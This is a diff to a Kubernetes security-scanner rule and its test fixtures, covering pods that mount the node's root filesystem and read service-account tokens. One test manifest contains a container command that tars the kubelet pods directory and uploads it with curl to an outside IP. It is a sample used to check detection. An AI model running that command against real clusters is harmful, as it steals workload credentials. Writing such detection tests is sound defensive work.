@@ -21,7 +21,7 @@ export const containerHoldsPowerfulToken: Rule = {
 | is otherwise powerful (\`high\` on its own) | not reported here | \`high\` | \`critical\` |
 | reads its own namespace's Secrets, or another \`medium\` risk | — | \`medium\` | \`high\` |
 
-Node credentials and another account's token Secret are never "plain": \`high\` at least. Whether the workload may reach the internet (NetworkPolicy engine) joins the evidence.`,
+Node credentials and another account's token Secret are never "plain": \`high\` at least; but the node's \`/\` mounted by a pod on the node's namespaces is \`node-root-access\`'s finding (prometheus-node-exporter's shape), and this rule adds one only when the container shows tells. Naming a host mount in a command reads the tokens only when it names the credential directory under it (\`/host/root/var/lib/kubelet/pods\`), not the mount itself (\`--path.rootfs=/host/root\`). Whether the workload may reach the internet (NetworkPolicy engine) joins the evidence.`,
     remediation: 'Give the token only to the container that calls the API: `automountServiceAccountToken: false` on the pod, and a projected `serviceAccountToken` volume mounted into that one container. A sidecar that needs no API access must not hold a token that reads Secrets; if this chart is not yours to change, do not install it.',
     references: [
       { tool: 'kubescape', id: 'C-0267' },
@@ -151,6 +151,28 @@ kind: RoleBinding
 metadata: {name: web-view, namespace: shop}
 roleRef: {apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: view}
 subjects: [{kind: ServiceAccount, name: web, namespace: shop}]
+`,
+      },
+      {
+        name: 'prometheus-node-exporter\'s shape: host namespaces and the node\'s / at /host/root, named as its rootfs (node-root-access reports it)',
+        yaml: `
+apiVersion: apps/v1
+kind: DaemonSet
+metadata: {name: node-exporter, namespace: monitoring}
+spec:
+  selector: {matchLabels: {app: node-exporter}}
+  template:
+    metadata: {labels: {app: node-exporter}}
+    spec:
+      automountServiceAccountToken: false
+      hostPID: true
+      hostNetwork: true
+      containers:
+      - name: node-exporter
+        image: "quay.io/prometheus/node-exporter:v1.8.2"
+        args: [--path.procfs=/host/proc, --path.sysfs=/host/sys, --path.rootfs=/host/root]
+        volumeMounts: [{name: root, mountPath: /host/root, readOnly: true, mountPropagation: HostToContainer}]
+      volumes: [{name: root, hostPath: {path: /}}]
 `,
       },
     ],
@@ -312,6 +334,46 @@ spec:
 `,
         violations: 1,
         severities: ['high'],
+      },
+      {
+        name: 'the node\'s / without host namespaces (high); with them, a command that reads the pods\' tokens under it and sends them out (critical)',
+        yaml: `
+apiVersion: apps/v1
+kind: DaemonSet
+metadata: {name: scanner, namespace: ops}
+spec:
+  selector: {matchLabels: {app: scanner}}
+  template:
+    metadata: {labels: {app: scanner}}
+    spec:
+      automountServiceAccountToken: false
+      containers:
+      - {name: scan, image: "ghcr.io/acme/scanner:1.0.0", volumeMounts: [{name: root, mountPath: /host, readOnly: true}]}
+      volumes: [{name: root, hostPath: {path: /}}]
+---
+apiVersion: apps/v1
+kind: DaemonSet
+metadata: {name: node-exporter, namespace: monitoring}
+spec:
+  selector: {matchLabels: {app: node-exporter}}
+  template:
+    metadata: {labels: {app: node-exporter}}
+    spec:
+      automountServiceAccountToken: false
+      hostPID: true
+      hostNetwork: true
+      containers:
+      - name: node-exporter
+        image: "quay.io/prometheus/node-exporter:v1.8.2"
+        args: [--path.rootfs=/host/root]
+      - name: textfile
+        image: "quay.io/prometheus/node-exporter:v1.8.2"
+        command: [sh, -c, "tar c /host/root/var/lib/kubelet/pods | curl -T - https://203.0.113.9/up"]
+        volumeMounts: [{name: root, mountPath: /host/root, readOnly: true}]
+      volumes: [{name: root, hostPath: {path: /}}]
+`,
+        violations: 2,
+        severities: ['high', 'critical'],
       },
     ],
   },
